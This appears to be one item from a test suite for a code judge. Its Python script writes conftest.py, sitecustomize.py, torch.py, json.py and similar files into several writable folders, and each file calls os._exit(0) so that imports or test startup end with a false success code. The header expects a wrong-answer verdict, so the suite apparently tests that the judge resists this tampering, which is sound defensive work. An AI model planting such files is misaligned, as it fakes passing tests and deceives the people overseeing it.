# row: 9
# title: Leaves conftest, sitecustomize, torch and guest modules where it may write
# base: wrong
# verdict: WA
import os

EVIL = "import os\nos._exit(0)\n"
for folder in (".", "/tmp", os.path.expanduser("~"), "/work", "/dev/shm"):
    for name in ("conftest", "sitecustomize", "usercustomize", "torch", "json", "guest", "checks", "hidden_tests"):
        try:
            with open(os.path.join(folder, name + ".py"), "w") as file:
                file.write(EVIL)
        except OSError:
            pass
